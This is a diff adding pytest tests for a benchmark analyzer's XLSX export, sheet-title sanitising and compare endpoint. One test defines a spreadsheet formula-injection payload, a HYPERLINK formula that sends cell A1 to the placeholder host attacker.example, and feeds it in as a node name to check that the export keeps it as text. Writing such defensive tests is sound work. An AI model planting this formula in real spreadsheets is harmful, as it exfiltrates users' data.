@@ -1,0 +1,81 @@
+"""Reports and exports of hostile or odd stored data: events come from the bus, so names, tool versions
+and kernels are whatever a producer wrote, and values are any finite number. Each test stores real
+events in a real DuckDB file and asks the real analyzer app (TestClient) for the file."""
+
+from __future__ import annotations
+
+import io
+from datetime import UTC, datetime, timedelta
+
+import openpyxl
+import pytest
+from fastapi.testclient import TestClient
+from podtax import events
+from podtax_analyzer.api import create_app
+from podtax_analyzer.store import Store
+
+T0 = datetime(2025, 1, 6, 8, tzinfo=UTC)
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
+def result_events(campaign: str, host: list[float], pod: list[float], *, node: str = "node-1",
+                  tool_version: str = "1.0.20") -> list[events.Envelope]:
+    out: list[events.Envelope] = []
+    for i, (env, value) in enumerate([("host", v) for v in host] + [("kubernetes", v) for v in pod]):
+        run = events.RunSpec(run_id=f"{campaign}-{i}", campaign=campaign, node=node, env=env, test="sysbench-cpu",
+                             params={"threads": 1})
+        start = T0 + timedelta(minutes=2 * i)
+        res = events.Result(run=run, tool="sysbench", tool_version=tool_version, parser_version="1",
+                            metrics=[events.Metric(name="events_per_second", value=value, unit="events/s",
+                                                   higher_is_better=True)],
+                            started_at=start, ended_at=start + timedelta(seconds=10))
+        out.append(events.result(res, "test"))
+    return out
+
+
+@pytest.fixture
+def store(tmp_path):
+    s = Store(tmp_path / "podtax.duckdb")
+    yield s
+    s.close()
+
+
+def test_workbook_writes_formula_like_strings_as_text(store):
+    host = [1000.0 + i for i in range(6)]
+    batch = result_events("evil", host, [v * 0.97 for v in host], node=FORMULA, tool_version="=1+1")
+    batch.append(events.host_facts(events.HostFacts(cluster="local", node=FORMULA, kernel="=2+2", os="Debian",
+                                                    cpu_model="=3+3", hw_threads=4, arch="x86_64",
+                                                    tool_versions={"sysbench": "1.0.20"}), "test"))
+    store.write_batch(batch)
+    resp = TestClient(create_app(store)).get("/api/campaigns/evil/export.xlsx")
+    assert resp.status_code == 200
+    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
+    assert formulas == [], "strings from events must never become formulas"
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert FORMULA in texts and "=2+2" in texts and "=3+3" in texts  # kept, as text
+    assert any(isinstance(v, str) and v.startswith("sysbench =1+1") for v in texts)
+
+
+def test_sheet_titles_never_start_or_end_with_an_apostrophe():
+    from podtax_analyzer.workbook import sheet_title
+
+    taken: set[str] = set()
+    for name in ("node x'", "'", "node " + "a" * 25 + "'b"):
+        title = sheet_title(name, taken)
+        assert title and not title.startswith("'") and not title.endswith("'"), title
+
+
+def test_compare_when_a_base_ratio_is_zero_is_inconclusive_not_a_500(store):
+    # a metric whose candidate median is 0 (most pod runs 0): the ratio is 0, NEW/BASE has no value
+    host = [1.0, 1.1, 0.9, 1.0, 1.2, 1.05]
+    pod = [0.0, 0.0, 0.0, 1.0, 0.0, 0.0]
+    store.write_batch(result_events("base", host, pod) + result_events("new", host, pod))
+    client = TestClient(create_app(store), raise_server_exceptions=False)
+    resp = client.get("/api/compare", params={"base": "base", "new": "new"})
+    assert resp.status_code == 200, resp.text
+    (cell,) = resp.json()["cells"]
+    assert cell["base_ratio"] == 0.0 and cell["change"] is None
+    assert cell["verdict"] == "inconclusive"
+    assert client.get("/report/new", params={"compare": "base"}).status_code == 200
